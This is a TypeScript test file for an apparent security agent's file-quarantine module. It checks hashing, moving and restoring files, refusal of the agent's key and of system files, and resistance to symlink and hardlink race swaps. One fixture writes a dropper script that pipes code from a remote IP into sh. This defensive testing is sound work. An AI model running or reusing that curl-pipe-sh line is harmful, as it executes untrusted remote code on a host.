import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmod,
  link,
  lstat,
  mkdir,
  mkdtemp,
  readFile,
  rename,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FileQuarantine, QuarantineGuard, sha256File } from '../index.ts';

const work = await mkdtemp(join(tmpdir(), 'cordon-quarantine-'));
afterAll(() => rm(work, { recursive: true, force: true }));

describe('FileQuarantine', () => {
  it('hashes, moves away and restores a file with its mode', async () => {
    const quarantine = new FileQuarantine(join(work, 'q'));
    const path = join(work, 'dropper.sh');
    const content = '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n';
    await writeFile(path, content);
    await chmod(path, 0o750);
    const record = await quarantine.quarantine(path);
    expect(record.sha256).toBe(createHash('sha256').update(content).digest('hex'));
    expect(record.mode).toBe(0o750);
    await expect(lstat(path)).rejects.toThrow();
    expect((await lstat(join(work, 'q', `${record.id}.bin`))).mode & 0o777).toBe(0);
    const restored = await quarantine.restore(record.id);
    expect(restored.originalPath).toBe(path);
    expect(await readFile(path, 'utf8')).toBe(content);
    expect((await lstat(path)).mode & 0o7777).toBe(0o750);
    await expect(quarantine.restore(record.id)).rejects.toThrow(/nothing in quarantine/);
  });

  it('refuses symlinks, directories, unsafe paths and overwriting on restore', async () => {
    const quarantine = new FileQuarantine(join(work, 'q2'));
    const target = join(work, 'target');
    await writeFile(target, 'x');
    await symlink(target, join(work, 'link'));
    await expect(quarantine.quarantine(join(work, 'link'))).rejects.toThrow(/not a regular file/);
    await expect(quarantine.quarantine(work)).rejects.toThrow(/not a regular file/);
    await expect(quarantine.quarantine(`${work}/../etc/passwd`)).rejects.toThrow(/safe absolute/);
    await expect(quarantine.quarantine('relative')).rejects.toThrow(/safe absolute/);
    await expect(quarantine.restore('../../etc')).rejects.toThrow(/not a quarantine id/);
    const record = await quarantine.quarantine(target);
    await writeFile(target, 'replacement');
    await expect(quarantine.restore(record.id)).rejects.toThrow(/not overwriting/);
    expect(await readFile(target, 'utf8')).toBe('replacement');
  });
});

// issue 13 ("file quarantine refuses only its own folder"): an operator could quarantine the
// agent's key, its nonce store (which reopens replay) or `nft`; and a parent directory swapped
// for a symlink between the check and the move redirected the move.
describe('FileQuarantine refuses what the agent and the host rely on', () => {
  const setup = async (name: string) => {
    const root = join(work, name);
    const state = join(root, 'state');
    await mkdir(state, { recursive: true });
    const key = join(root, 'agent.key');
    await writeFile(key, 'PRIVATE KEY');
    await writeFile(join(state, 'nonces.json'), '{}');
    const guard = await QuarantineGuard.forAgent({ files: [key], trees: [state] });
    return { root, state, key, guard };
  };

  it('refuses the agent key, its state, node, nft and system files, also by another name', async () => {
    const { root, state, key, guard } = await setup('own');
    const quarantine = new FileQuarantine(join(root, 'q'), { guard });
    await symlink(state, join(root, 'state-link'));
    await link(key, join(root, 'key-hardlink'));
    const refused = [
      key,
      join(state, 'nonces.json'),
      join(root, 'state-link', 'nonces.json'),
      join(root, 'key-hardlink'),
      process.execPath,
      '/etc/passwd',
      '/etc/shadow',
    ];
    const nft = execFileSync('sh', ['-c', 'command -v nft || true']).toString().trim();
    if (nft !== '') refused.push(nft);
    for (const path of refused) {
      await expect(quarantine.quarantine(path), path).rejects.toThrow(/refusing to quarantine/);
    }
    expect(await readFile(key, 'utf8')).toBe('PRIVATE KEY');
    expect((await lstat(key)).mode & 0o777).not.toBe(0);
    expect(await readFile(join(state, 'nonces.json'), 'utf8')).toBe('{}');
    await expect(quarantine.quarantine('/proc/self/status')).rejects.toThrow(/refusing|regular/);
    const payload = join(root, 'payload.bin');
    await writeFile(payload, 'malware');
    expect((await quarantine.quarantine(payload)).originalPath).toBe(payload);
  });

  it('moves what it checked when the parent is swapped for a symlink before the move', async () => {
    const { root, key, guard } = await setup('swap');
    const box = join(root, 'box');
    await mkdir(box);
    await writeFile(join(box, 'agent.key'), 'innocent');
    const quarantine = new FileQuarantine(join(root, 'q'), {
      guard,
      beforeMove: async () => {
        await rename(box, join(root, 'box-checked'));
        await symlink(root, box); // box/agent.key is now the real key
      },
    });
    const record = await quarantine.quarantine(join(box, 'agent.key'));
    expect(record.sha256).toBe(createHash('sha256').update('innocent').digest('hex'));
    expect(record.originalPath).toBe(join(box, 'agent.key'));
    expect(await readFile(key, 'utf8')).toBe('PRIVATE KEY');
    expect((await lstat(key)).mode & 0o777).not.toBe(0);
    await expect(lstat(join(root, 'box-checked', 'agent.key'))).rejects.toThrow();
    // Restoring through the symlinked parent would drop the file beside the key: refused.
    await expect(quarantine.restore(record.id)).rejects.toThrow(/resolves elsewhere/);
  });

  it('puts back and refuses a file swapped in the same directory before the move', async () => {
    const { root, key, guard } = await setup('same-dir');
    const suspect = join(root, 'suspect');
    await writeFile(suspect, 'checked');
    const quarantine = new FileQuarantine(join(root, 'q'), {
      guard,
      beforeMove: async () => {
        await rm(suspect);
        await link(key, suspect); // the name now points at the key's inode
      },
    });
    await expect(quarantine.quarantine(suspect)).rejects.toThrow(/changed while/);
    expect(await readFile(key, 'utf8')).toBe('PRIVATE KEY');
    expect((await lstat(key)).mode & 0o777).not.toBe(0);
    expect(await readFile(suspect, 'utf8')).toBe('PRIVATE KEY');
  });
});

// issue 13 (resolve the whole path, act on what was checked), for hashing too: triage lstat()s
// a path, then hashes it by name; a name swapped for a FIFO blocked forever and one swapped
// for a symlink to /dev/zero read forever.
describe('sha256File hashes only the regular file it opened', () => {
  it('refuses a FIFO, a symlink and a device at once, and caps the bytes read', async () => {
    const fifo = join(work, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const zero = join(work, 'zero-link');
    await symlink('/dev/zero', zero);
    await expect(sha256File(fifo)).rejects.toThrow(/not a regular file/);
    await expect(sha256File(zero)).rejects.toThrow(/ELOOP|symbolic/);
    await expect(sha256File('/dev/zero')).rejects.toThrow(/not a regular file/);
    const big = join(work, 'big');
    await writeFile(big, Buffer.alloc(3 * 1024 * 1024));
    await expect(sha256File(big, 1024 * 1024)).rejects.toThrow(/longer than/);
    expect(await sha256File(big)).toMatch(/^[0-9a-f]{64}$/);
  });
});
